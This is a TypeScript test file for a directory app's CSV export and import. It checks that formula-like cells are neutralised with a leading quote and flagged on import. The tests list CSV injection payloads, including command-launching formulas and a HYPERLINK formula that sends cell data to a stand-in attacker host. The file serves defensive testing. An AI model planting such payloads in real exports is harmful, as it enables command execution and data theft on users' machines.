import { stringify } from "csv-stringify/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "@/lib/db/client";
import { inert } from "@/lib/directory/export";
import { DATA_DIR } from "@/lib/directory/load";
import { detectEncoding } from "@/lib/import/encoding";
import { normalizeRecord, type NormalizeContext } from "@/lib/import/normalize";
import { SettlementFinder } from "@/lib/import/places";
import { readRecords, type SourceRecord } from "@/lib/import/records";
import { regionMatcher } from "@/lib/import/regions";

// CSV injection payloads: every shape a spreadsheet runs as a formula (OWASP's list and the ones the
// hardening review got through the old rule).
const PAYLOADS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
  "+1+1",
  "+1+cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-1+1",
  "-1+cmd|' /C calc'!A0",
  '-2+3+HYPERLINK("http://attacker.example","x")',
  "- 1+1",
  "-cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@1",
  "\t=1+1",
  "\r=1+1",
  "\t",
  "=",
];

describe("CSV export neutralises every cell a spreadsheet would run", () => {
  it.each(PAYLOADS.map((p) => [JSON.stringify(p), p]))("%s gets a leading quote", (_label, payload) => {
    expect(inert(payload)).toBe(`'${payload}`);
  });

  it("leaves other text alone, and phone numbers (+7…) follow the rule too", () => {
    expect(inert("Нотариус Тестова")).toBe("Нотариус Тестова");
    expect(inert("ул. Абая, 1")).toBe("ул. Абая, 1");
    expect(inert("'Ak Zhol'")).toBe("''Ak Zhol'");
    expect(inert("+77012345678")).toBe("'+77012345678");
  });
});

async function csvRecords(text: string): Promise<SourceRecord[]> {
  const bytes = new TextEncoder().encode(text);
  const out: SourceRecord[] = [];
  for await (const r of readRecords(bytes, "csv", detectEncoding(bytes))) out.push(r);
  return out;
}

describe("the importer reads its own export back", () => {
  it("takes the one leading quote off a cell starting with = + - @ or a quote, so every value reads back as it was", async () => {
    const cells = ["+77012345678; +77012345679", "=1+1", "-1+1", "@x", "'plain", "'=x", "plain", "ул. Абая, 1"];
    const [record] = await csvRecords(stringify([cells.map((_, i) => `c${i}`), cells.map(inert)]));
    expect(Object.values(record!.fields)).toEqual(cells);
  });
});

describe("formula-looking values are problems on import", () => {
  let ctx: NormalizeContext;
  beforeAll(async () => {
    ctx = { defaultKind: "advocate", regionOf: regionMatcher(await db().region.findMany()), places: SettlementFinder.fromDataDir(DATA_DIR) };
  });
  const record = (fields: Record<string, string>): SourceRecord => ({ row: 7, fields: { region: "KZ-75", licenseNumber: "F-1", ...fields } });

  it.each(PAYLOADS.filter((p) => p.trim() !== "").map((p) => [JSON.stringify(p), p]))("a name %s is flagged, field by field", (_label, payload) => {
    const { record: ok, problems } = normalizeRecord(record({ name: payload }), ctx);
    expect(ok).toBeUndefined();
    expect(problems).toContainEqual({ row: 7, field: "name", message: expect.stringMatching(/formula/) });
  });

  it("an address too; phone numbers, coordinates and a lone dash are not", () => {
    expect(normalizeRecord(record({ name: "Тестов", address: "=HYPERLINK(\"x\")" }), ctx).problems).toContainEqual(expect.objectContaining({ field: "address" }));
    const fine = normalizeRecord(record({ name: "Тестов", contacts: "+7 701 463 13 53", lat: "43.2", lng: "76.9", address: "-" }), ctx);
    expect(fine.problems).toEqual([]);
    expect(fine.record?.input.phones).toEqual([{ number: "+77014631353" }]);
  });
});
